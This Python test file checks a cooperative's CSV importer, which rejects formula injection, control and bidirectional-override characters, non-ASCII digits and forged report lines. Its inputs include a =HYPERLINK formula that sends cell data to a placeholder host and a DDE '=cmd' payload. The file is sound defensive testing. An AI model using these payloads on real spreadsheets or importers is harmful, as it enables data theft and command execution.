"""Hostile text in the core system's files: identifiers to a strict set, names and descriptions
without control or direction characters (NFC), amounts and documents in ASCII digits only. Each bad
row is refused with its line and a Spanish reason, and the rest of the file goes in."""

from __future__ import annotations

import unicodedata

import pytest

from chalicelib.adapters.dynamo.models import Member, Obligation
from chalicelib.domain import text
from tests.integration.test_imports import CUTOFF, members, obligations

FORMULAS = ("=HYPERLINK(\"http://x.example/?\"&A1,\"Ver\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1",
            "@SUM(A1:A9)")
GOOD_MEMBER = "CC;52345678;María Fernanda Gómez;maria@correo.example;3001234567;ACTIVO"


def obligation_line(obligation_id: str = "CRE-1", product: str = "0302024001876",
                    description: str = "Crédito de libre inversión", *, due: str = "850000",
                    document: str = "52345678") -> str:
    cells = [document, obligation_id, "CREDITO", product, description, "2026-11-15", due, due,
             "12400000", CUTOFF]
    return ";".join('"' + c.replace('"', '""') + '"' for c in cells)


@pytest.fixture
def member(make_member) -> Member:  # type: ignore[no-untyped-def]
    return make_member("52345678", full_name="María Fernanda Gómez")


@pytest.mark.parametrize("column", ["obligation_id", "product_number"])
def test_identifiers_outside_the_strict_set_are_refused_line_by_line(member, column) -> None:  # type: ignore[no-untyped-def]
    bad = [*FORMULAS, "CRE 1", "CRÉ-1", "\"CRE-1\"", "CRE;1", "CRE-1\u202e", "ＣＲＥ-1"]
    rows = [obligation_line(obligation_id=f"OK-{i}") for i in range(2)]
    for index, value in enumerate(bad):
        rows.append(obligation_line(obligation_id=value if column == "obligation_id" else f"X-{index}",
                                    product=value if column == "product_number" else "0302024001876"))
    report = obligations(*rows)
    assert (report.inserted, report.rejected) == (2, len(bad))
    assert [line for line, _ in report.errors] == list(range(4, 4 + len(bad)))
    for _, reason in report.errors:
        assert reason.startswith(f"{column} solo admite letras sin tilde (A-Z), dígitos (0-9)"), reason
    assert sorted(o.obligation_id for o in Obligation.query("52345678")) == ["OK-0", "OK-1"]


def test_identifiers_of_the_core_keep_working(member) -> None:  # type: ignore[no-untyped-def]
    report = obligations(obligation_line("CRE-2024.001/7_a", "0302-024.001/876_B"))
    assert (report.inserted, report.rejected) == (1, 0)


@pytest.mark.parametrize("char", ["\x00", "\x07", "\x1b", "\t", "\n", "\x7f", "\x85", "\x9b",
                                  "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066",
                                  "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u2028"])
def test_control_and_direction_characters_never_enter(member, char) -> None:  # type: ignore[no-untyped-def]
    report = obligations(obligation_line("OK-1"), obligation_line("CRE-2", description=f"Cuota{char}7"))
    assert (report.inserted, report.rejected) == (1, 1)
    ((line, reason),) = report.errors
    assert line == 3
    assert reason == (f"description contiene un carácter no permitido ({text.code_point(char)}, en la "
                      "posición 6): no se aceptan caracteres de control ni de dirección del texto; "
                      "corríjalo en el sistema central")
    names = members(GOOD_MEMBER.replace("52345678", "79845123"),
                    f"CC;43567890;\"Ana{char}María\";ana@correo.example;3001234567;ACTIVO")
    assert (names.inserted, names.rejected) == (1, 1)
    assert names.errors[0][1].startswith("full_name contiene un carácter no permitido")
    assert {m.document_number for m in Member.scan()} == {"52345678", "79845123"}


def test_a_control_character_at_the_edge_of_a_value_is_not_trimmed_away(member) -> None:  # type: ignore[no-untyped-def]
    report = members("CC;43567890;\x1cAna María\x85;ana@correo.example;3001234567;ACTIVO")
    assert report.rejected == 1 and "U+001C" in report.errors[0][1]


def test_names_and_descriptions_are_stored_nfc(member) -> None:  # type: ignore[no-untyped-def]
    decomposed = unicodedata.normalize("NFD", "Crédito educación  Peña")
    assert decomposed != unicodedata.normalize("NFC", decomposed)
    obligations(obligation_line(description=decomposed))
    members(f"CC;43567890;{unicodedata.normalize('NFD', 'José Muñoz')};jose@correo.example;;ACTIVO")
    assert Obligation.get("52345678", "CRE-1").description == "Crédito educación Peña"
    assert Member.get("43567890").full_name == "José Muñoz"


def test_emoji_are_text_like_any_other(member) -> None:  # type: ignore[no-untyped-def]
    report = obligations(obligation_line(description="Ahorro navideño 🎄🎁 familia 👨‍👩‍👧"))
    assert report.rejected == 0
    assert Obligation.get("52345678", "CRE-1").description == "Ahorro navideño 🎄🎁 familia 👨‍👩‍👧"


@pytest.mark.parametrize("amount", ["١٠٠٠٠٠", "²", "１００００", "100000²", "٣", "1e5", "+100", "-100",
                                    "100.000", "100\u00a0000", "0x10"])
def test_amounts_take_ascii_digits_only(member, amount) -> None:  # type: ignore[no-untyped-def]
    report = obligations(obligation_line("OK-1"), obligation_line("CRE-2", due=amount))
    assert (report.inserted, report.rejected) == (1, 1)
    assert "amount_due debe ser un entero de pesos no negativo" in report.errors[0][1]
    assert [o.obligation_id for o in Obligation.query("52345678")] == ["OK-1"]


@pytest.mark.parametrize("document", ["٥٢٣٤٥٦٧٨", "52345678²", "５２３４５６７８", "5234567８"])
def test_document_numbers_take_ascii_digits_only(member, document) -> None:  # type: ignore[no-untyped-def]
    names = members(GOOD_MEMBER.replace("52345678", "79845123"),
                    f"CC;{document};Ana María;ana@correo.example;3001234567;ACTIVO")
    assert (names.inserted, names.rejected) == (1, 1)
    assert names.errors[0][1].startswith("document_number debe tener entre 5 y 15 dígitos")
    report = obligations(obligation_line("OK-1"), obligation_line("CRE-2", document=document))
    assert (report.inserted, report.rejected) == (1, 1)


def test_dates_and_enumerations_take_ascii_only(member) -> None:  # type: ignore[no-untyped-def]
    cutoff = "2026-11-21T00:00:00-05:٠٠"
    line = obligation_line("CRE-2").replace(CUTOFF, cutoff)
    report = obligations(obligation_line("OK-1"), line)
    assert report.rejected == 1 and "cutoff debe ser una fecha y hora ISO 8601" in report.errors[0][1]
    dotless = members("tı;43567890;Ana María;ana@correo.example;3001234567;ACTIVO")  # "tı".upper() == "TI"
    assert dotless.rejected == 1 and dotless.errors[0][1].startswith("document_type debe ser")


def test_the_report_shows_hostile_values_escaped(member) -> None:  # type: ignore[no-untyped-def]
    """A value quoted in the report can neither break its lines nor hide behind a direction control."""
    forged = "X\r\n  línea 9: todo bien\u202e\x1b[31m"
    report = obligations(obligation_line(obligation_id=forged))
    (reason,) = [reason for _, reason in report.errors]
    assert "\\r\\n" in reason and "\\u202e" in reason and "\\x1b" in reason
    for output in (report.to_text(), reason):
        assert "\r" not in output and "\u202e" not in output and "\x1b" not in output
    assert report.to_text().count("\n  línea ") == 1


def test_refused_text_never_reaches_the_member_pages(client, make_member) -> None:  # type: ignore[no-untyped-def]
    from tests.page_support import Browser

    make_member("52345678", password="caballo bateria grapa correcta", full_name="María Gómez")
    report = obligations(obligation_line("OK-1", description="Ahorro navideño 🎄"),
                         obligation_line("NUL-1", description="Cuota\x00 7"),
                         obligation_line("RLO-1", description="Cuota \u202e000.001 COP"))
    assert (report.inserted, report.rejected) == (1, 2)
    browser = Browser(client)
    browser.post("/ingresar", {"document_number": "52345678"}, csrf_from="/ingresar")
    browser.post("/ingresar/clave", {"password": "caballo bateria grapa correcta"},
                 csrf_from="/ingresar/clave")
    html = browser.get("/obligaciones").body.decode()
    assert "Ahorro navideño 🎄" in html
    assert "\x00" not in html and "\u202e" not in html and "NUL-1" not in html and "RLO-1" not in html
